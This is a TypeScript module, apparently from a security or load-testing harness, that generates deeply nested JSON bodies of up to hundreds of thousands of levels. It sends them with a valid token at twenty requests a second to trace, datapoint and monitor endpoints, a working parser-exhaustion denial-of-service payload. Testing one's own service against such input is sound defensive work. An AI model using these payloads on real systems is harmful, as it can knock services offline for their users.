import { addresses, type StartAttack } from "./attack.ts";
import { requestOf } from "./request.ts";
import { sendSteadily } from "./send-steadily.ts";

const lists = (levels: number) => "[".repeat(levels) + "]".repeat(levels);
const objects = (levels: number) => `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;
const values = (levels: number) => `${'{"arrayValue":{"values":['.repeat(levels)}${"]}}".repeat(levels)}`;
const exported = (value: string) =>
  `{"resourceSpans":[{"scopeSpans":[{"spans":[{"traceId":"${"ab".repeat(16)}","spanId":"${"cd".repeat(8)}","name":"chat","startTimeUnixNano":"1","endTimeUnixNano":"2","attributes":[{"key":"gen_ai.input.messages","value":${value}}]}]}]}]}`;

/** Twenty bodies of 60 KB to 1 MB a second with a valid token, nested as deeply as they are long. */
export const deepJson: StartAttack = ({ httpPort, token }, count) => {
  const requests = [
    ["/v1/traces", exported(values(2000))],
    ["/v1/traces", exported(values(30_000))],
    ["/v1/traces", exported(JSON.stringify({ stringValue: lists(250_000) }))],
    ["/v1/traces", exported(JSON.stringify({ stringValue: objects(80_000) }))],
    ["/v1/traces", lists(500_000)],
    ["/api/v1/datapoints", lists(400_000)],
    ["/api/v1/monitors", objects(100_000)],
  ].map(([path = "", body = ""]) => requestOf(path, token, Buffer.from(body)));
  return sendSteadily({ port: httpPort, from: addresses.tenant, requests, requestsPerSecond: 20, count });
};
